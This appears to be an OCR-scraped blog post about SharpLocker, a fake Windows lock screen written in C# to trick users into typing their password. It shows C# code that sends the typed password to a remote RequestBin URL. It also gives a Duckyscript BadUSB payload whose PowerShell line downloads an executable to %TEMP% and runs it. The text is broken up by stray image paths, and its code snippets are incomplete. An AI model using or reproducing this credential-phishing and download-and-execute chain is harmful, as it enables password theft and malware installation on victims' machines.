This was a seriously fun project. SharpLocker simply put isa “fake windows lockscreen” program written in C#. When run, up pops what appears to be a windows lock screen prompt…

The lockscreen isn’t fully realistic, the power buttons are missing and if the resolution of the main monitor isn’t 1080p then things end up a little stretched. The username is fetched, however the user icon and background image are pre-determined. But it’s more than good enough to fool most.

The idea of this kind of hack is to create such an airof familiarity that an unwitting individual enters their password as a reflexto the prompt.

Any text entered is sent to the console, where a would be attacker is free to do what they will with it. However with a couple extra lines of code we can exfiltrate the “password” to a remote server. In the button click method…

private void button1_Click_1(object sender, EventArgs e)
    HttpWebRequest req = (HttpWebRequest)WebRequest.Create("" + textBox2.Text);

The added highlighted code takes the Textbox’s text and packages it into a GET request, sending it off to a requestbin bin. as they put it… “gives you a URL that will collect requests made to it and let you inspect them in a human-friendly way. Use RequestBin to see what your HTTP client is sending or to inspect and debug webhook requests.”

For example if randomtext! is entered into the password prompt. The URL[unique]?randomtext! is visited by the program, thuscreating the query we see above in our requestbin bin.

It’s a bit primitive, but it works.

Furthermore, you work this all into a Duckyscript, such that on the plugin of a BadUSB: a script is run which downloads the program and executes it within a fraction of a second. If you’re not familiar with BadUSBs see my explanation video.

DELAY 4000
STRING powershell (new-object System.Net.WebClient).DownloadFile('
REM ==== >URL BELOW< ====
REM ==== >URL ABOVE< ====
STRING ','%TEMP%\f.exe'); Start-Process"%TEMP%\f.exe"

Thisduckyscript spawns a run prompt, a single line powershell script is then keyed in, which when run downloads the program and executes it, no frills. A would be attacker can then back away and waitfor a victim to type intheir password.

How can you protect against BadUSB attacks? I have a video on that.